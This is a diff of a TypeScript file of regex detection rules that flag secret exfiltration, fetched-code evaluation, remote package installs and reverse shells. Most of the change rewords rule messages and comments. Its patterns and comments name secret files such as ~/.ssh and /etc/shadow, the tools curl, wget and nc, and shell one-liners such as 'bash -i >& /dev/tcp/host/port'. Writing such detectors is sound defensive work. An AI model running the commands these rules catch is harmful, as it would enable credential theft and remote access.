@@ -1,27 +1,27 @@
 import { type PatternRow, rowsOf } from './patterns.ts'
 
-/** Files with secrets, and the environment. */
+/** Paths of files that hold secrets. */
 export const secretFiles =
   '(?:(?:~|\\$\\{?home\\}?|/home/[\\w$.-]{1,32}|/root|/users/[\\w$.-]{1,32}|%userprofile%)/\\.(?:ssh|aws|gnupg|kube|docker|netrc|npmrc|pypirc|git-credentials|config/gcloud|bash_history|zsh_history|env)\\b[\\w./-]{0,60}|\\bid_(?:rsa|ed25519|ecdsa)\\b(?!\\.pub)|/etc/shadow\\b|(?<![\\w.])\\.env\\b(?:\\.(?:local|production))?(?!\\.(?:example|sample|template))|\\bwallet\\.dat\\b|\\blogin\\.keychain)'
 const dump =
   '(?:\\$\\(\\s{0,3}(?:env|printenv|set)\\b|`(?:env|printenv)\\b|process\\.env(?![.\\[\\w])|os\\.environ(?![.\\[\\w])|\\benv\\s{0,4}\\|)'
 const sender =
   '(?<![\\w-])(?:curl|wget|nc|ncat|netcat|invoke-webrequest|invoke-restmethod|iwr|irm)\\s'
-/** A character of a command: of its line, or of the next line that a backslash continues. */
+/** A character of a command line, including a newline escaped with a backslash. */
 const onLine = '(?:[^\\n]|(?<=\\\\)\\n)'
 export const secretNames =
   '(?:api[ _-]?keys?|access[ _-]?(?:keys?|tokens?)|(?:auth|session|bearer|refresh)[ _-]?tokens?|tokens?|passwords?|passphrases?|credentials?|secrets?|private keys?|ssh keys?|seed phrases?|recovery phrases?|mnemonics?|cookies?|environment variables?|env(?:ironment)? vars?)'
 
-/** An order is none if the text forbids it, which "never forget to" does not. */
+/** Text before a match that forbids the action. "Never forget to" does not forbid it. */
 export const forbidden =
   /\b(?:never|not|don['’]t|avoid|without|no|refuse|instead of|prevent|must not|cannot|can['’]t)\b(?![^.\n]{0,20}\b(?:forget|fail|skip|hesitate|omit|neglect|miss|delay)\b)[^.\n]{0,60}$/
 
 export const exfiltration = {
   rule: 'sends-secrets',
-  message: 'secrets are sent to an address',
+  message: 'sends secrets to a URL',
   quoted: {
     rule: 'quoted-exfiltration',
-    // Words of a defence, such as "detect", are in any text about settings.
+    // Words of a defense, such as "detect", occur in any text about settings.
     named:
       /injection|jailbreak|attack|adversar|malicious|hostile|red.?team|exfiltrat|phish|exploit|why (?:it is |it['’]s |this is )?(?:bad|wrong|dangerous)|(?:bad|dangerous|harmful) examples?|攻击|攻擊|注入/,
   },
@@ -39,7 +39,7 @@ const evaluating =
 
 const packages = {
   rule: 'remote-package',
-  message: 'loads code from an address and not a registry',
+  message: 'loads code from a URL instead of a package registry',
 } as const
 
 export const commandPatterns: readonly PatternRow[] = [
@@ -59,7 +59,7 @@ export const commandPatterns: readonly PatternRow[] = [
   ...rowsOf(
     {
       rule: 'asks-for-secrets',
-      message: 'asks for a secret in the conversation',
+      message: 'asks the user to paste a secret into the conversation',
       unless: forbidden,
     },
     {
@@ -67,37 +67,38 @@ export const commandPatterns: readonly PatternRow[] = [
     },
   ),
   ...rowsOf(
-    { rule: 'leaking-link', message: 'has an address filled with secrets or the conversation' },
-    // Badges are filled with the name of a build.
+    { rule: 'leaking-link', message: 'has a URL filled with secrets or the conversation' },
+    // URLs of badges contain build names.
     {
       http: /(?<=!\[[^\]\n]{0,200}\]\(\s{0,3}<?|<img\b[^<>\n]{0,200}?\ssrc\s?=\s?["']?)https?:\/\/(?!img\.shields\.io|badgen\.net|codecov\.io|badge\.fury\.io|[^\s)>"']{0,200}\/(?:badge|shields?)\b)[^\s)>"']{0,600}?[=/](?:[{$<[%]|%7b)[^/&=\s)>"']{0,40}?(?:secret|token|key|passw|credential|env|data|context|conversation|history|prompt|session|cookie|message|base64|encoded|content|user)/,
     },
   ),
   ...rowsOf(
-    { rule: 'run-fetched-code', message: 'evaluates code that it fetches or decodes' },
+    { rule: 'run-fetched-code', message: 'evaluates fetched or decoded code' },
     {
       // exec(requests.get(…).text), eval(base64.b64decode(…)), subprocess.run(['sh', '-c', requests.get(…).text])
       'exec|eval|compile|os.|new |vm.|subprocess.': `${evaluating}\\s{0,4}\\(\\s{0,4}(?!\\))(?:[^;\\n]{0,120}?${fetching}\\s{0,4}\\(|[^;\\n]{0,60}?${decoding})|subprocess\\.\\w{1,16}\\(\\s{0,4}\\[?[^;\\n]{0,60}?(?:${fetching}|b64decode)\\s{0,4}\\(`,
-      // an interpreter's one-liner that fetches and evaluates, or whose program is the output of a command
+      // An interpreter one-liner that fetches and evaluates, or runs the output of a command as its
+      // program.
       'python|node |deno |bun |perl |ruby |php ':
         /(?<![\w-])(?:python[\d.]{0,5}|node|deno|bun|perl|ruby|php)\s{1,4}(?:-\w{1,8}\s{1,4}){0,3}-(?:c|e|r|-eval)\s{1,4}(?:["'][^\n]{0,200}?(?:urlopen|requests\.get|fetch\s{0,2}\(|https?\.get|file_get_contents|open-uri|lwp|net::http)[^\n]{0,300}?(?<![\w.])(?:exec|eval|execsync|function|system)\b|["']?(?:\$\(|`)\s{0,4}(?:curl|wget)\s)/,
     },
   ),
   ...rowsOf(packages, {
-    // What a browser loads stays in its page.
+    // Exclude CDNs: code loaded by a browser stays in its page.
     import:
       /(?<![\w.])import\s{0,4}\(\s{0,4}["'`]?https?:\/\/(?!(?:[\w-]{1,20}\.)?(?:deno\.land|esm\.sh|jsr\.io|jsdelivr\.net|unpkg\.com|skypack\.dev|cdnjs\.cloudflare\.com|gstatic\.com|esm\.run|raw\.githack\.com)\/)[^\s"'`)]{4}/,
-    // Options name the addresses of registries.
+    // Exclude options that take the URL of a registry.
     'pip|uv |npm |pnpm |yarn |bun |npx |uvx |gem |cargo |go |rpm |dnf |yum |zypper ':
       /(?<![\w-])(?:pip[\d.]{0,4}|uv\s{1,4}pip|pipx|uv\s{1,4}tool|npm|pnpm|yarn|bun|npx|uvx|gem|cargo|go|rpm|dnf|yum|zypper)\s{1,4}(?:(?:install|localinstall|i|in|add|run|x|dlx)\s{1,4})?(?:--?[\w-]{1,30}(?:[= ][\w./-]{1,40})?\s{1,4}){0,4}["']?(?:[\w.-]{1,60}(?:\[[\w,]{1,40}\])?\s{0,2}@\s{0,2})?(?<!(?:index-url|registry|find-links|source|proxy)[= ]["']?)(?:git\+)?https?:\/\/(?!pypi\.org\/|[\w.-]*pythonhosted\.org\/|registry\.npmjs\.org\/|download\.pytorch\.org\/)[^\s"'`|;&)]{4,300}/,
   }),
   ...rowsOf(
-    { rule: 'gives-access', message: 'lets others into the machine' },
+    { rule: 'gives-access', message: 'gives others access to the machine' },
     {
       // bash -i >& /dev/tcp/host/port 0>&1, exec 5<>/dev/tcp/host/port
       'sh |bash |zsh |dash |ksh |exec |nc |ncat |netcat |socat ':
         /(?<![\w-])(?:(?:(?:ba|z|da|k)?sh|exec)\s[^\n|]{0,40}?(?:>&|&>|<>|>|<)\s{0,4}\/dev\/(?:tcp|udp)\/|(?:nc|ncat|netcat)\s[^\n|]{0,60}?-\w{0,4}[ec]\s{1,4}(?:\/bin\/)?(?:ba|z)?sh\b|socat\s[^\n|]{0,120}?(?:exec|system):["']?(?:\/bin\/)?(?:ba|z)?sh\b)/,
-      // echo 'ssh-ed25519 …' >> ~/.ssh/authorized_keys, with a key that is written out or fetched
+      // echo 'ssh-ed25519 …' >> ~/.ssh/authorized_keys, with a literal or downloaded key
       'echo |printf |curl |wget ':
         /(?<![\w-])(?:echo|printf|curl|wget)\s(?![^\n]{0,24}aaaa\w{0,6}(?:\.{3}|…))[^\n]{0,600}?(?:>{1,2}|tee\s{1,4}-a)\s{0,4}["']?(?:~|\$home|\$\{home\}|\/root|\/home\/[\w$.-]{1,32})\/\.ssh\/authorized_keys/,
       // docker run --privileged -v /:/host
